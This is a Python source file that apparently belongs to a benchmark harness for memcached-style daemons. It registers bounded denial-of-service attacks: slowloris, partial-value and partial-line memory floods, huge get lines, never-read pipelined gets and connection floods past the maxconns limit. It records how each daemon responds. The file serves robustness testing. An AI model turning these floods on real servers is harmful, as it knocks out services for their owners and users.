"""The attacks: plain functions in a registry, each bounded in time and in count.

An attack takes the daemon's address and a :class:`Scale`, runs against it, and returns a
short note of what the daemon answered (``"412 refused out of memory"``). It closes every
socket it opened before it returns. Add one with the decorator::

    @attack("name", "what it does", flags=("-c", "256"))
    def name(address: Address, scale: Scale) -> str: ...

In ``flags``, :data:`PORT` stands for the daemon's TCP port (``-U`` takes the same number)
and :data:`AUTH_FILE` for an ``-Y`` file holding :data:`LOGIN`, which the runner's checker
then sends first on each connection. The other attack modules (dumps, watch, UDP, auth)
register here when the package imports them.
"""

from __future__ import annotations

import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass

Address = tuple[str, int]

PORT = "{port}"
AUTH_FILE = "{auth_file}"
LOGIN = b"checker secret"  # an -Y user and password, as the auth set's data carries them


@dataclass(frozen=True)
class Scale:
    """How hard the attacks go: ``FULL`` for the table, ``QUICK`` for the test suite."""

    name: str
    factor: float  # connections and bytes, as a fraction of the full attack
    hold: float  # seconds an attack holds what it opened
    memory_mb: int  # the daemons' -m

    def count(self, full: int) -> int:
        return max(1, round(full * self.factor))


FULL = Scale("full", 1.0, 3.0, 64)
QUICK = Scale("quick", 0.1, 1.0, 16)


@dataclass(frozen=True)
class Attack:
    name: str
    about: str
    run: Callable[[Address, Scale], str]
    flags: tuple[str, ...] = ()  # daemon flags beyond -m (the same for both daemons)
    # What the daemon holds before the attack (a filled cache), made before the checker
    # starts and RSS "before" is read: the row measures the attack alone.
    prepare: Callable[[Address, Scale], None] | None = None

    @property
    def login(self) -> bytes:
        """What a client sends first: LOGIN under -Y, nothing otherwise."""
        return LOGIN if AUTH_FILE in self.flags else b""


ATTACKS: dict[str, Attack] = {}


def attack(
    name: str,
    about: str,
    flags: tuple[str, ...] = (),
    prepare: Callable[[Address, Scale], None] | None = None,
) -> Callable[[Callable[[Address, Scale], str]], Callable[[Address, Scale], str]]:
    """Register an attack under ``name`` (the runner's order is the registration order)."""

    def register(run: Callable[[Address, Scale], str]) -> Callable[[Address, Scale], str]:
        ATTACKS[name] = Attack(name, about, run, flags, prepare)
        return run

    return register


@contextmanager
def sockets() -> Iterator[list[socket.socket]]:
    """A list for an attack's sockets, every one closed at the end."""
    opened: list[socket.socket] = []
    try:
        yield opened
    finally:
        for sock in opened:
            sock.close()


def connect(address: Address, timeout: float = 5.0) -> socket.socket | None:
    try:
        return socket.create_connection(address, timeout=timeout)
    except OSError:
        return None


def read_line(sock: socket.socket, timeout: float) -> bytes:
    """One reply line, b"" if none came in time, b"closed" if the daemon closed."""
    sock.settimeout(timeout)
    buf = b""
    try:
        while not buf.endswith(b"\r\n"):
            chunk = sock.recv(4096)
            if not chunk:
                return b"closed"
            buf += chunk
    except TimeoutError:
        return buf
    except OSError:
        return b"closed"
    return buf


def tally(replies: list[bytes]) -> str:
    words = {
        b"STORED\r\n": "stored",
        b"SERVER_ERROR Out of memory during read\r\n": "out of memory",
        b"SERVER_ERROR out of memory reading request\r\n": "out of memory",
        b"closed": "closed",
        b"": "no reply",
    }
    counts = Counter(
        words.get(reply, reply.decode("ascii", "replace").strip()) for reply in replies
    )
    return ", ".join(f"{n} {word}" for word, n in counts.most_common())


VALUE = 1_000_000  # "1 MB": within -I 1m for both daemons, key and header included


@attack(
    "partial-values",
    "500 connections each send a set of a 1 MB value but its last 10 bytes, and hold",
)
def partial_values(address: Address, scale: Scale) -> str:
    body = b"v" * (VALUE - 10)
    with sockets() as opened:
        for i in range(scale.count(500)):
            sock = connect(address)
            if sock is None:
                continue
            opened.append(sock)
            try:
                sock.sendall(b"set partial:%d 0 0 %d\r\n" % (i, VALUE) + body)
            except OSError:
                pass  # not read, or closed: the daemon's business
        time.sleep(scale.hold)
        for sock in opened:  # the last bytes: what does each set get?
            try:
                sock.sendall(b"v" * 10 + b"\r\n")
            except OSError:
                pass
        return tally([read_line(sock, 2.0) for sock in opened])


@attack(
    "partial-get-lines", "20 connections each send a get line without a newline, growing to 32 MB"
)
def partial_get_lines(address: Address, scale: Scale) -> str:
    piece = b"".join(b"key:%07d " % n for n in range(20_000))  # 240 KB of keys
    target = int(32 * (1 << 20) * max(scale.factor, 0.25))
    with sockets() as opened:
        for _ in range(scale.count(20)):
            sock = connect(address)
            if sock is not None:
                sock.sendall(b"get ")
                opened.append(sock)
        sent = dict.fromkeys(range(len(opened)), 0)
        deadline = time.monotonic() + 10 * scale.hold
        while sent and time.monotonic() < deadline:
            for i in list(sent):
                try:
                    opened[i].sendall(piece)
                    sent[i] += len(piece)
                except OSError:
                    del sent[i]  # closed (out of memory) or not read in time
                    continue
                if sent[i] >= target:
                    del sent[i]
        time.sleep(scale.hold)
        return tally([read_line(sock, 0.5) for sock in opened])


@attack("huge-get-line", "one client sends get lines of 1,000,000 keys, in a loop")
def huge_get_line(address: Address, scale: Scale) -> str:
    keys = scale.count(1_000_000)
    line = b"get " + b" ".join(b"key:%07d" % n for n in range(keys)) + b"\r\n"
    answered = 0
    with sockets() as opened:
        sock = connect(address, timeout=30)
        if sock is None:
            return "refused"
        opened.append(sock)
        deadline = time.monotonic() + 10 * scale.hold
        for _ in range(5):
            if time.monotonic() > deadline:
                break
            try:
                sock.sendall(line)
                reply = read_line(sock, 30)
            except OSError:
                break
            answered += reply == b"END\r\n"
    return f"{answered} lines of {keys:,} keys answered"


@attack("never-read", "500 connections pipeline 40 gets of a 500 KB value and never read")
def never_read(address: Address, scale: Scale) -> str:
    value = b"v" * 500_000
    with sockets() as opened:
        setter = connect(address)
        if setter is None:
            return "refused"
        opened.append(setter)
        setter.sendall(b"set never-read 0 0 %d\r\n%s\r\n" % (len(value), value))
        read_line(setter, 5)
        for _ in range(scale.count(500)):
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.settimeout(5)
            try:
                sock.connect(address)
                sock.sendall(b"get never-read\r\n" * 40)
            except OSError:
                sock.close()
                continue
            opened.append(sock)
        time.sleep(scale.hold)
        closed = 0
        for sock in opened[1:]:
            sock.setblocking(False)
            try:
                while sock.recv(1 << 20):  # what arrived before a close, then the close
                    pass
                closed += 1
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
        return f"{closed} of {len(opened) - 1} closed by the daemon"


@attack("slowloris", "2,400 connections each send a request a byte at a time, slowly")
def slowloris(address: Address, scale: Scale) -> str:
    request = b"get slowloris-key\r\n"
    with sockets() as opened:
        for _ in range(scale.count(2400)):
            sock = connect(address)
            if sock is not None:
                opened.append(sock)
        deadline = time.monotonic() + scale.hold
        sent = 0
        while time.monotonic() < deadline and sent < len(request) - 1:
            for sock in opened:
                try:
                    sock.sendall(request[sent : sent + 1])
                except OSError:
                    pass
            sent += 1
            time.sleep(scale.hold / len(request))
        return f"{len(opened)} connections held"


@attack("past-maxconns", "2,000 connections past -c 256", flags=("-c", "256"))
def past_maxconns(address: Address, scale: Scale) -> str:
    replies: list[bytes] = []
    with sockets() as opened:
        for _ in range(scale.count(2000) + 256):
            sock = connect(address, timeout=2)
            if sock is not None:
                opened.append(sock)
        time.sleep(scale.hold)
        for sock in opened:
            sock.setblocking(False)
            try:
                data = sock.recv(4096)
                replies.append(data.split(b"\r\n")[0] if data else b"closed")
            except BlockingIOError:
                replies.append(b"open")
            except OSError:
                replies.append(b"closed")
    counts = Counter(reply.decode("ascii", "replace") for reply in replies)
    return ", ".join(f"{n} {word}" for word, n in counts.most_common())
